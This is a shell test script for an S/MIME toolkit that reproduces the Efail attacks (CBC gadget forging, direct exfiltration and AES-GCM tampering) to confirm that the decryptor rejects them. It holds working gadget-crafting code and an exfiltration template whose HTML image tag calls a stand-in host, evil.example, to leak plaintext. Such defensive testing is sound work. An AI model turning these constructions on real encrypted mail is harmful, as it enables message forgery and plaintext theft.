#!/bin/sh
# SPDX-License-Identifier: ISC
# Copyright (c) 2026 The smimetools authors; see LICENSE.
# The Efail attacks (Poddebniak et al., USENIX Security 2018):
#  - CBC gadgets: the ciphertext of a CBC message changed without the key
#    (first block through the IV, a middle block through the block before
#    it).  It still decrypts, marked integrity=none; --require-integrity
#    refuses it; a signature inside catches it in smime-verify.
#  - direct exfiltration: a captured encrypted part between attacker HTML
#    parts is never decrypted (result=none, the message byte-exact).
#  - a tampered AES-GCM message: result=fail (cannot decrypt) and not one
#    byte of plaintext, where openssl cms writes it all before failing.
# Each crafted input is first checked to be the attack (openssl cms
# decrypts the gadget to the injected text, the GCM tamper makes openssl
# cms fail, ...), so that no assertion here can pass for a wrong reason.
. "$(dirname "$0")/lib.sh"
plan 58

pki=$testdir/pki
for n in alice bob; do
	cp "$pki/$n.key" "$tmp/$n.key"
	chmod 600 "$tmp/$n.key"
done
A="-k $tmp/alice.key -c $pki/alice.pem"
ca="--no-system-ca --ca $pki/root-ca.pem"
# der2mail HDRFILE DER: a message of the header and the DER in base64.
der2mail() { hdr "$1"; openssl base64 -in "$2"; }
# gadget IN OUT CTOFF PLAIN BLK WANTED: OUT is the DER IN with the CBC
# gadget that turns block BLK (a byte offset, a multiple of 16) of the
# known plaintext PLAIN into the 16 bytes WANTED (\n for a newline): the
# block before it (the IV, for block 0) is xored with known ^ wanted.
gadget() {
	perl -0777 -e 'my ($in, $out, $ct, $pl, $blk, $w) = @ARGV;
	    open(F, "<", $in) or die; binmode F; local $/; $_ = <F>;
	    open(P, "<", $pl) or die; binmode P; my $p = <P>;
	    $w =~ s/\\n/\n/g; length($w) == 16 or die "wanted: 16 bytes";
	    my $at = $ct + $blk - 16;
	    if ($blk == 0) {	# the IV: aes-NNN-cbc OID, OCTET STRING of 16
		/\x06\x09\x60\x86\x48\x01\x65\x03\x04\x01[\x02\x16\x2a]\x04\x10/g or die "no IV";
		$at = pos;
	    }
	    substr($_, $at, 16) ^= substr($p, $blk, 16) ^ $w;
	    open(O, ">", $out) or die; binmode O; print O $_' "$@"
}
# ctoff DER: the offset of the first content octet of the encryptedContent
# (a primitive [0] in definite-length DER, the last item of the file).
ctoff() {
	openssl asn1parse -inform DER -in "$1" |
	    awk '/prim: cont \[ 0 \]/ { split($1, a, ":"); split($2, h, "="); o = a[1] + h[2] } END { print o }'
}
osdecrypt() {	# openssl cms decrypts DER $1 with alice's key into $2
	openssl cms -decrypt -inform DER -in "$1" -inkey "$tmp/alice.key" \
	    -recip "$pki/alice.pem" -binary -out "$2" 2>/dev/null
}

cat >"$tmp/m.eml" <<'EOF'
From: Bob <bob@example.com>
To: Alice <alice@example.com>
Subject: the plan
Message-ID: <efail@example.com>
Content-Type: text/plain; charset=us-ascii

the secret line one
the secret line two, long enough for a few more blocks of ciphertext
the secret line three
EOF

# --- CBC gadgets -------------------------------------------------------
smime-encrypt --cipher aes-256-cbc -r "$pki/alice.pem" <"$tmp/m.eml" >"$tmp/c.eml"
# DER, definite lengths: the ciphertext is one primitive string.
body "$tmp/c.eml" | openssl base64 -d |
    openssl cms -cmsout -inform DER -outform DER -out "$tmp/c.der"
osdecrypt "$tmp/c.der" "$tmp/c.plain"
ct=$(ctoff "$tmp/c.der")
# What the attacker knows of the plaintext: it starts "Content-Type: te".
check_eq 'CBC: the plaintext starts as the attacker guesses' \
    "$(head -c 16 "$tmp/c.plain")" 'Content-Type: te'

# Gadget 1: the IV (16 bytes before the ciphertext's 2-byte header)
# changed so that the first block reads "Sender: PWNED!!\n" (a field the
# outer header lacks and RFC 5322 allows once: one that comes up).
gadget "$tmp/c.der" "$tmp/g1.der" "$ct" "$tmp/c.plain" 0 'Sender: PWNED!!\n'
osdecrypt "$tmp/g1.der" "$tmp/g1.plain"
check_eq 'IV gadget: openssl cms decrypts it to the injected first block' \
    "$(head -n 1 "$tmp/g1.plain")" 'Sender: PWNED!!'
der2mail "$tmp/c.eml" "$tmp/g1.der" >"$tmp/g1.eml"
expect_code 'IV gadget: exit 0' 0 'smime-decrypt $A <"$tmp/g1.eml" >"$tmp/d.eml"'
check_eq 'IV gadget: it decrypts, marked integrity=none' "$(dres "$tmp/d.eml")" \
    'mx.example.org; result=pass; cipher=aes-256-cbc; integrity=none; recipient=sha256:X'
check_grep 'IV gadget: the injected text is what was decrypted' '^Sender: PWNED!!' "$tmp/d.eml"

# Gadget 2: a block in the middle.  The block before it becomes garbage,
# the block itself the attacker's text.
off=$(perl -0777 -ne 'print index($_, "line two, long")' "$tmp/c.plain")
blk=$(( (off / 16 + 1) * 16 ))	# the first block boundary after it
gadget "$tmp/c.der" "$tmp/g2.der" "$ct" "$tmp/c.plain" "$blk" EFAIL-GADGET-XYZ
osdecrypt "$tmp/g2.der" "$tmp/g2.plain"
check_grep 'middle gadget: openssl cms decrypts it to the injected block' \
    'EFAIL-GADGET-XYZ' "$tmp/g2.plain"
der2mail "$tmp/c.eml" "$tmp/g2.der" >"$tmp/g2.eml"
expect_code 'middle gadget: exit 0' 0 'smime-decrypt $A <"$tmp/g2.eml" >"$tmp/d.eml"'
check_eq 'middle gadget: decrypted, integrity=none' "$(dres "$tmp/d.eml")" \
    'mx.example.org; result=pass; cipher=aes-256-cbc; integrity=none; recipient=sha256:X'
check_grep 'middle gadget: the injected block is in the output' 'EFAIL-GADGET-XYZ' "$tmp/d.eml"

# --require-integrity refuses both, and writes no plaintext.
for g in g1 g2; do
	expect_code "$g, --require-integrity: exit 0" 0 \
	    'smime-decrypt --require-integrity $A <"$tmp/$g.eml" >"$tmp/d.eml"'
	check_eq "$g, --require-integrity: result=fail (integrity required)" \
	    "$(dres "$tmp/d.eml")" 'mx.example.org; result=fail (integrity required)'
	check_nogrep "$g, --require-integrity: no plaintext" 'secret|PWNED|GADGET' "$tmp/d.eml"
	undres "$tmp/d.eml" >"$tmp/d.rest"
	check_same "$g, --require-integrity: the message passes through still encrypted" \
	    "$tmp/d.rest" "$tmp/$g.eml"
done
expect_code '--require-integrity --strict: exit 1' 1 \
    'smime-decrypt -s --require-integrity $A <"$tmp/g2.eml" >/dev/null'

# Signed, then CBC-encrypted: the gadget decrypts, the signature catches
# it.  The injected block sits in the signed text (not its header).
sed 's/^From: .*/From: Alice <alice@example.com>/' "$tmp/m.eml" |
    smime-sign -k "$tmp/alice.key" -c "$pki/alice.pem" --chain "$pki/sub-ca.pem" >"$tmp/s.eml"
smime-verify $ca <"$tmp/s.eml" >"$tmp/v.eml"
check_eq 'signed then encrypted: the signed message passes before the attack' \
    "$(ar_result "$tmp/v.eml")" pass
smime-encrypt --cipher aes-256-cbc -r "$pki/alice.pem" <"$tmp/s.eml" >"$tmp/sc.eml"
body "$tmp/sc.eml" | openssl base64 -d |
    openssl cms -cmsout -inform DER -outform DER -out "$tmp/sc.der"
osdecrypt "$tmp/sc.der" "$tmp/sc.plain"
ct=$(ctoff "$tmp/sc.der")
off=$(perl -0777 -ne 'print index($_, "line two, long")' "$tmp/sc.plain")
blk=$(( (off / 16 + 1) * 16 ))
gadget "$tmp/sc.der" "$tmp/sg.der" "$ct" "$tmp/sc.plain" "$blk" EFAIL-GADGET-XYZ
osdecrypt "$tmp/sg.der" "$tmp/sg.plain"
check_grep 'signed message gadget: openssl cms decrypts the injected block' \
    'EFAIL-GADGET-XYZ' "$tmp/sg.plain"
der2mail "$tmp/sc.eml" "$tmp/sg.der" >"$tmp/sg.eml"
smime-decrypt $A <"$tmp/sg.eml" >"$tmp/d.eml"
check_eq 'signed message gadget: decrypted, integrity=none' \
    "$(dres "$tmp/d.eml" | sed 's/; recipient=.*//')" \
    'mx.example.org; result=pass; cipher=aes-256-cbc; integrity=none'
expect_code 'signed message gadget: smime-verify exits 0' 0 \
    'smime-verify $ca <"$tmp/d.eml" >"$tmp/v.eml"'
check_eq 'signed message gadget: the signature catches it: smime=fail' \
    "$(ar_result "$tmp/v.eml" | sed 's/ .*//')" fail
# The first block of a signed message is its Content-Type: a gadget there
# breaks the structure; still never pass.
gadget "$tmp/sc.der" "$tmp/sh.der" "$ct" "$tmp/sc.plain" 0 'X-Gadget: PWNED\n'
check_eq 'signed message: it starts Content-Type: multipart/signed' \
    "$(head -c 16 "$tmp/sc.plain")" 'Content-Type: mu'
der2mail "$tmp/sc.eml" "$tmp/sh.der" >"$tmp/sh.eml"
smime-decrypt $A <"$tmp/sh.eml" | smime-verify $ca >"$tmp/v.eml"
check_nogrep 'signed message, IV gadget on its header: never smime=pass' \
    '^Authentication-Results: mx\.example\.org; smime=pass' "$tmp/v.eml"

# --- direct exfiltration ---------------------------------------------------
# The captured encrypted body of c.eml between two HTML parts of the
# attacker's: decrypted in place, the plaintext would be the URL.
b64=$(body "$tmp/c.eml")
exfil() {	# exfil OUTER-TYPE: the attack message on stdout
	cat <<EOF
From: Mallory <mallory@evil.example>
To: Alice <alice@example.com>
Subject: the plan
MIME-Version: 1.0
Content-Type: $1; boundary="BOUNDARY"

--BOUNDARY
Content-Type: text/html

<img src="http://evil.example/?
--BOUNDARY
Content-Type: application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m
Content-Transfer-Encoding: base64

$b64
--BOUNDARY
Content-Type: text/html

">
--BOUNDARY--
EOF
}
NESTED='mx.example.org; result=none (only a nested part is encrypted: not decrypted)'
for t in multipart/mixed multipart/alternative multipart/related; do
	exfil $t >"$tmp/x.eml"
	expect_code "exfiltration in $t: exit 0" 0 'smime-decrypt $A <"$tmp/x.eml" >"$tmp/d.eml"'
	check_eq "exfiltration in $t: result=none, nested part not decrypted" \
	    "$(dres "$tmp/d.eml")" "$NESTED"
	undres "$tmp/d.eml" >"$tmp/d.rest"
	check_same "exfiltration in $t: byte-exact but for the header" "$tmp/d.rest" "$tmp/x.eml"
done
crlf "$tmp/x.eml" >"$tmp/xc.eml"
smime-decrypt $A <"$tmp/xc.eml" >"$tmp/d.eml"
check_eq 'exfiltration, CRLF: result=none (nested)' "$(dres "$tmp/d.eml" | tr -d '\r')" "$NESTED"
undres "$tmp/d.eml" >"$tmp/d.rest"
check_same 'exfiltration, CRLF: byte-exact but for the header' "$tmp/d.rest" "$tmp/xc.eml"
# The same part alone in a multipart, and as application/octet-stream .p7m
# inside a forwarded message/rfc822.
{ printf 'From: m@evil.example\nContent-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\nContent-Transfer-Encoding: base64\n\n%s\n--b--\n' "$b64"; } >"$tmp/x1.eml"
smime-decrypt $A <"$tmp/x1.eml" >"$tmp/d.eml"
check_eq 'the encrypted part alone inside a multipart: none (nested)' "$(dres "$tmp/d.eml")" "$NESTED"
{ printf 'From: m@evil.example\nContent-Type: message/rfc822\n\nFrom: bob@example.com\nContent-Type: application/octet-stream; name="smime.p7m"\nContent-Transfer-Encoding: base64\n\n%s\n' "$b64"; } >"$tmp/x2.eml"
smime-decrypt $A <"$tmp/x2.eml" >"$tmp/d.eml"
check_eq 'an encrypted message inside message/rfc822: none (nested)' "$(dres "$tmp/d.eml")" "$NESTED"
undres "$tmp/d.eml" >"$tmp/d.rest"
check_same 'inside message/rfc822: byte-exact but for the header' "$tmp/d.rest" "$tmp/x2.eml"
check_nogrep 'no nested part decrypted anywhere' 'secret' "$tmp/d.eml"

# --- tampered AES-GCM --------------------------------------------------
# Big enough that OpenSSL streams plaintext before it sees the tag.
awk 'BEGIN { print "From: Bob <bob@example.com>"; print "To: alice@example.com";
    print "Content-Type: text/plain"; print "";
    for (i = 0; i < 4000; i++) printf "the secret line %d\n", i }' >"$tmp/big.eml"
smime-encrypt --cipher aes-256-gcm -r "$pki/alice.pem" <"$tmp/big.eml" >"$tmp/g.eml"
body "$tmp/g.eml" | openssl base64 -d |
    openssl cms -cmsout -inform DER -outform DER -out "$tmp/g.der"
gct=$(ctoff "$tmp/g.der")
check_eq 'GCM: the ciphertext found (openssl cms decrypts the untouched DER)' \
    "$(osdecrypt "$tmp/g.der" "$tmp/g.plain"; echo $?)" 0
# tamper one ciphertext byte in the middle; then the tag; then the nonce
perl -0777 -pe "substr(\$_, $((gct + 30000)), 1) ^= \"\\x01\"" "$tmp/g.der" >"$tmp/gt1.der"
# the mac is the last item: OCTET STRING of 16 at the very end
perl -0777 -pe 'substr($_, -1, 1) ^= "\x80"' "$tmp/g.der" >"$tmp/gt2.der"
check_eq 'GCM: the tag is the last 16 bytes (04 10 before it)' \
    "$(perl -0777 -ne 'print unpack("H4", substr($_, -18, 2))' "$tmp/g.der")" 0410
perl -0777 -pe 's/(\x06\x09\x60\x86\x48\x01\x65\x03\x04\x01\x2e\x30\x11\x04\x0c)(.)/$1 . ($2 ^ "\x01")/se' \
    "$tmp/g.der" >"$tmp/gt3.der"
for t in gt1 gt2 gt3; do
	case $t in gt1) what='a ciphertext byte' ;; gt2) what='the tag' ;; gt3) what='the nonce' ;; esac
	osdecrypt "$tmp/$t.der" "$tmp/$t.plain"
	rc=$?
	check_eq "GCM, $what changed: openssl cms fails, after writing its output (the hole)" \
	    "$rc:$([ -s "$tmp/$t.plain" ] && echo output)" '4:output'
	der2mail "$tmp/g.eml" "$tmp/$t.der" >"$tmp/$t.eml"
	expect_code "GCM, $what changed: exit 0" 0 'smime-decrypt $A <"$tmp/$t.eml" >"$tmp/d.eml"'
	check_eq "GCM, $what changed: result=fail (cannot decrypt)" "$(dres "$tmp/d.eml")" \
	    'mx.example.org; result=fail (cannot decrypt)'
	check_nogrep "GCM, $what changed: not one plaintext line" 'secret' "$tmp/d.eml"
	undres "$tmp/d.eml" >"$tmp/d.rest"
	check_same "GCM, $what changed: passes through as it came, still encrypted" \
	    "$tmp/d.rest" "$tmp/$t.eml"
done
check_grep 'GCM, a ciphertext byte changed: openssl cms released real plaintext' \
    'the secret line 1000' "$tmp/gt1.plain"

done_testing
